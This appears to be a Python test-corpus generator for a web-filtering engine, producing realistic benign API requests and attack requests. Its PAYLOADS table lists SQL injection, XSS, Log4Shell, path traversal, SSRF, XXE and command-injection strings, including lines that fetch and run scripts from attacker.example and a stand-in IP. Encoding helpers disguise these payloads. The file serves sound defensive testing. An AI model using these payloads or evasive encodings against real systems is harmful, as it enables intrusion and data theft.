"""Realistic requests for benchmarks and corpora: benign API traffic, and attacks placed in
every kind of point under every encoding the engine decodes.

Deterministic for a given `random.Random`: the same seed gives the same requests.
"""

from __future__ import annotations

import base64
import json
import random
import uuid
from urllib.parse import quote

from node.types import Request

FIRST = [
    "Anna",
    "Seán",
    "Zoë",
    "Liam",
    "Chloé",
    "Mateo",
    "Aoife",
    "Jürgen",
    "Priya",
    "Kenji",
    "Olu",
    "Marta",
    "D'Arcy",
    "Renée",
    "José",
    "Ngozi",
    "Søren",
    "Mei",
    "Tomás",
    "Yara",
]
LAST = [
    "O'Brien",
    "Müller",
    "García-López",
    "D'Angelo",
    "Nakamura",
    "Smith",
    "Van der Berg",
    "Ó Súilleabháin",
    "Kowalski",
    "Okafor",
    "Dubois",
    "Lindqvist",
    "McDonald's",
    "Rossi",
]
STREETS = [
    "12 Baker St.",
    "221B Baker Street",
    "Rue de l'Église 4",
    "1600 Amphitheatre Pkwy",
    "Calle Mayor, 3º 2ª",
    "Flat 4, 7 O'Connell Rd",
    "PO Box 1234",
    "Am Markt 5 (Hinterhaus)",
]
PROSE = [
    "Let's meet at 5 o'clock — don't be late!",
    "I'd like to order the same as last time; please deliver to the back door.",
    "Great product, but the 'quick start' guide was confusing. 4/5 would buy again.",
    "Can you select the best option from the list and drop me a line when it's done?",
    "We need to update the delivery address and delete the old one, or merge both.",
    "The union of both sets is larger than either; see chapter 3 for the proof.",
    "Hi team, the build fails with 'error: command not found' when I run make on Debian.",
    "Use `git commit -m 'fix typo'` and then `git push origin main` to publish it.",
    "Price drops 20% if you order 3 or more; 1 = one item, 2 = two items.",
    "It's 100% cotton & machine-washable at 30°C; do not tumble dry.",
    "Our café's menu: crème brûlée, piña colada, jalapeño poppers (spicy!).",
    "Run `ls -la` in your home directory to see hidden files like .bashrc.",
    "SELECT statements are covered in week two; joins and GROUP BY in week three.",
    "She said \"it's fine\" but I'm not sure; can we talk tomorrow at 10am?",
    "To install, run pip install -r requirements.txt inside the virtualenv.",
    "Order #4521 arrived damaged: the box was torn and 2 of 6 cups were broken.",
    "Please cancel my subscription or, if that isn't possible, pause it until May.",
    "The script prints 'Hello, world' and exits with status 0 — nothing else.",
    "Where do I find the settings? I looked under Preferences > Account > Security.",
    "Meeting notes: 1) budget approved; 2) hire two devs; 3) ship v2.1 by Q3.",
]
MARKDOWN = [
    "# Release notes\n\n- Fixed login bug\n- Added **dark mode**\n\n```python\nprint('hi')\n```",
    "## Steps\n1. Open the app\n2. Tap *Settings*\n3. Choose `Export` and confirm\n",
    "> Note: values like `a && b` are evaluated left to right.\n\nSee [docs](https://example.com/docs).",
]
HTML = [
    '<p>Hello <b>world</b>, see <a href="https://example.com/page?id=2">this page</a>.</p>',
    '<ul><li>First item</li><li>Second &amp; last</li></ul><img src="/img/cat.png" alt="cat">',
    '<h2>Title</h2><p style="color: red">Warning: <em>don\'t</em> mix these.</p>',
]
CODE = [
    "function add(a, b) { return a + b; }",
    "for (let i = 0; i < items.length; i++) { total += items[i].price; }",
    'def greet(name):\n    return f"Hello, {name}!"',
    "const user = await db.users.findOne({ id: userId });",
    "if (x > 0 && y > 0) { quadrant = 1; } else { quadrant = 0; }",
    "SELECT name, email FROM customers WHERE country = 'DE' ORDER BY name;",
]
SEARCHES = [
    "cheap flights to new york",
    "how to union two tables in sql",
    "cat food delivery",
    "rm vs mv command differences",
    "python select from list",
    "best drop shipping apps",
    "order by date descending excel",
    "where is the nearest pharmacy",
    "script writing tips",
    "1=1 meaning",
    "javascript alert box example",
    "bash if else syntax",
    "café near me",
    "iphone 15 case",
    "etc passwd file explained",
    "wget vs curl",
    "the or and and operators",
]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "okhttp/4.12.0",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "PostmanRuntime/7.37.3",
    "Wget/1.21.3",
    "axios/1.6.8",
    "Dalvik/2.1.0 (Linux; U; Android 14)",
]


def _jwt(rng: random.Random) -> str:
    def part(value: dict[str, object]) -> str:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")

    claims = {"sub": str(rng.randint(1, 10**6)), "name": rng.choice(FIRST), "iat": 1700000000}
    signature = base64.urlsafe_b64encode(rng.randbytes(32)).decode().rstrip("=")
    return f"{part({'alg': 'HS256', 'typ': 'JWT'})}.{part(claims)}.{signature}"


def _headers(rng: random.Random, extra: list[tuple[str, str]]) -> tuple[tuple[str, str], ...]:
    headers = [
        ("Host", "api.example.com"),
        ("User-Agent", rng.choice(AGENTS)),
        ("Accept", "application/json, text/plain, */*"),
        ("Accept-Language", "en-GB,en;q=0.9,de;q=0.8"),
        ("Accept-Encoding", "gzip, deflate, br"),
        ("Authorization", f"Bearer {_jwt(rng)}"),
        ("X-Request-Id", str(uuid.UUID(int=rng.getrandbits(128)))),
        ("Cookie", f"session={rng.randbytes(16).hex()}; theme=dark; lang=en-GB"),
        ("Referer", f"https://app.example.com/orders/{rng.randint(1, 9999)}?tab=details"),
    ]
    return tuple(headers + extra)


def _person(rng: random.Random) -> dict[str, object]:
    first, last = rng.choice(FIRST), rng.choice(LAST)
    return {
        "name": f"{first} {last}",
        "email": f"{first.lower()}.{rng.randint(1, 99)}@example.org".replace("'", ""),
        "address": {"street": rng.choice(STREETS), "city": "Dublin", "zip": "D02 X285"},
        "phone": f"+353 {rng.randint(80, 89)} {rng.randint(100, 999)} {rng.randint(1000, 9999)}",
    }


def benign_request(rng: random.Random) -> Request:
    kind = rng.randrange(8)
    if kind == 0:
        uri = (
            f"/api/v1/users/{rng.randint(1, 10**6)}/orders?page={rng.randint(1, 40)}"
            f"&limit=50&sort=-created_at&fields=id,total,status"
        )
        return Request("GET", uri, _headers(rng, []))
    if kind == 1:
        query = quote(rng.choice(SEARCHES))
        return Request("GET", f"/search?q={query}&lang=en&page=1", _headers(rng, []))
    if kind == 2:
        doc = {
            "customer": _person(rng),
            "items": [
                {
                    "sku": f"SKU-{rng.randint(1000, 9999)}",
                    "qty": rng.randint(1, 5),
                    "price": round(rng.uniform(1, 300), 2),
                }
                for _ in range(rng.randint(1, 6))
            ],
            "note": rng.choice(PROSE),
            "gift": rng.random() < 0.3,
        }
        return _json("POST", "/api/v1/orders", doc, rng)
    if kind == 3:
        doc = {
            "title": rng.choice(PROSE)[:40],
            "body": rng.choice(MARKDOWN + HTML),
            "tags": rng.sample(["news", "howto", "release", "faq", "c++", "a&b"], 2),
        }
        return _json("PUT", f"/api/v1/posts/{uuid.UUID(int=rng.getrandbits(128))}", doc, rng)
    if kind == 4:
        doc = {"snippet": rng.choice(CODE), "language": "auto", "comment": rng.choice(PROSE)}
        return _json("POST", "/api/v1/snippets", doc, rng)
    if kind == 5:
        person = _person(rng)
        form = "&".join(
            f"{k}={quote(str(v))}"
            for k, v in (
                ("name", person["name"]),
                ("email", person["email"]),
                ("message", rng.choice(PROSE)),
                ("subscribe", "on"),
            )
        )
        return Request(
            "POST",
            "/contact",
            _headers(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
            form.encode(),
        )
    if kind == 6:
        boundary = "----WebKitFormBoundary" + rng.randbytes(8).hex()
        body = (
            (
                f'--{boundary}\r\nContent-Disposition: form-data; name="caption"\r\n\r\n'
                f"{rng.choice(PROSE)}\r\n--{boundary}\r\nContent-Disposition: form-data; "
                f'name="avatar"; filename="me-{rng.randint(1, 99)}.png"\r\n'
                f"Content-Type: image/png\r\n\r\n"
            ).encode()
            + rng.randbytes(512)
            + (f"\r\n--{boundary}--\r\n").encode()
        )
        return Request(
            "POST",
            "/api/v1/profile/avatar",
            _headers(rng, [("Content-Type", f"multipart/form-data; boundary={boundary}")]),
            body,
        )
    uri = f"/static/js/app.{rng.randbytes(4).hex()}.js"
    return Request("GET", uri, _headers(rng, [("If-None-Match", f'W/"{rng.randbytes(6).hex()}"')]))


def _json(method: str, uri: str, body: object, rng: random.Random) -> Request:
    return Request(
        method,
        uri,
        _headers(rng, [("Content-Type", "application/json")]),
        json.dumps(body, ensure_ascii=False).encode(),
    )


def message(request: Request, message_id: str) -> dict[str, object]:
    """`request` as a protocol v1 `request` message (docs/PROTOCOL.md)."""
    document: dict[str, object] = {
        "v": 1,
        "kind": "request",
        "id": message_id,
        "method": request.method,
        "scheme": "https",
        "host": "api.example.com",
        "uri": request.uri,
        "client_ip": "192.0.2.10",
        "headers": [list(h) for h in request.headers],
    }
    if request.body:
        document["body"] = request.body
    return document


def benign_mix(rng: random.Random, count: int) -> list[Request]:
    return [benign_request(rng) for _ in range(count)]


# One representative payload per technique; the corpora place and encode each of them.
PAYLOADS: dict[str, list[str]] = {
    "sqli": [
        "1' OR '1'='1",
        "1 UNION SELECT username, password FROM users--",
        "admin'--",
        "1; DROP TABLE users",
        "1 AND SLEEP(5)",
        "' or 1=1#",
        "1') AND (SELECT 1 FROM pg_sleep(5))--",
        "-1 union/**/select 1,2,@@version",
    ],
    "xss": [
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(document.cookie)>',
        "<svg/onload=confirm(1)>",
        "javascript:alert(1)",
        "'-alert(1)-'",
        '<iframe src="javascript:alert(1)"></iframe>',
    ],
    "rce": [
        ";cat /etc/passwd",
        "| id",
        "$(curl http://attacker.example/x.sh | sh)",
        "`whoami`",
        "&& wget http://198.51.100.7/bot -O /tmp/b",
        "system('id');",
        "${jndi:ldap://attacker.example/a}",
        "__import__('os').system('id')",
    ],
    "ptrav": [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//etc/shadow",
        "/proc/self/environ",
    ],
    "ssti": [
        "{{7*7}}",
        "${7*7}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "<%= system('id') %>",
    ],
    "xxe": [
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    ],
    "nosqli": ['{"$ne": null}', '{"$where": "this.password.match(/.*/)"}'],
    "ldapi": ["*)(uid=*))(|(uid=*", "admin)(&)"],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:6379/",
        "gopher://127.0.0.1:25/_HELO",
        "http://0x7f000001/admin",
    ],
    "crlf": ["x\r\nSet-Cookie: admin=1", "foo\r\nLocation: http://evil.example/"],
    "ssi": ['<!--#exec cmd="id"-->'],
}


def encode(payload: str, encoding: str) -> str:
    if encoding == "percent":
        return quote(payload, safe="")
    if encoding == "double-percent":
        return quote(quote(payload, safe=""), safe="")
    if encoding == "base64":
        return base64.b64encode(payload.encode()).decode()
    if encoding == "html":
        return "".join(f"&#{ord(c)};" if not c.isalnum() else c for c in payload)
    if encoding == "unicode-escape":
        return "".join(f"\\u{ord(c):04x}" if not c.isalnum() else c for c in payload)
    return payload


PLACEMENTS = ("query", "json", "form", "header", "cookie", "path", "xml")
ENCODINGS = ("plain", "percent", "double-percent", "base64", "html", "unicode-escape")


def place(rng: random.Random, payload: str, placement: str, encoding: str) -> Request:
    """A benign-looking request with `payload`, encoded, in one point."""
    value = encode(payload, encoding)
    # In a URL or cookie, whatever the encoding, the result is itself percent-encoded where
    # it must be: a browser or client library would never send a raw `&`, `#` or space.
    if encoding in ("plain", "html", "unicode-escape", "base64"):
        wire = quote(value, safe="")
    else:
        wire = value
    if placement == "query":
        return Request("GET", f"/api/v1/items?sort=name&filter={wire}", _headers(rng, []))
    if placement == "path":
        return Request("GET", f"/api/v1/files/{wire}", _headers(rng, []))
    if placement == "json":
        return _json("POST", "/api/v1/comments", {"author": "Anna", "text": value}, rng)
    if placement == "form":
        return Request(
            "POST",
            "/login",
            _headers(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
            f"user={quote(value, safe='')}&password=hunter2".encode(),
        )
    if placement == "xml":
        escaped = value.replace("&", "&amp;").replace("<", "&lt;")
        body = f'<?xml version="1.0"?><order><note>{escaped}</note></order>'
        if payload.startswith("<?xml"):
            body = payload
        return Request(
            "POST",
            "/api/v1/orders.xml",
            _headers(rng, [("Content-Type", "application/xml")]),
            body.encode(),
        )
    if placement == "cookie":
        return Request("GET", "/account", _headers(rng, [("Cookie", f"prefs={wire}")]))
    return Request("GET", "/account", _headers(rng, [("X-Forwarded-Host", value)]))


def attack_mix(rng: random.Random, count: int) -> list[Request]:
    out = []
    kinds = sorted(PAYLOADS)
    for _ in range(count):
        payload = rng.choice(PAYLOADS[rng.choice(kinds)])
        out.append(place(rng, payload, rng.choice(PLACEMENTS), rng.choice(ENCODINGS[:3])))
    return out
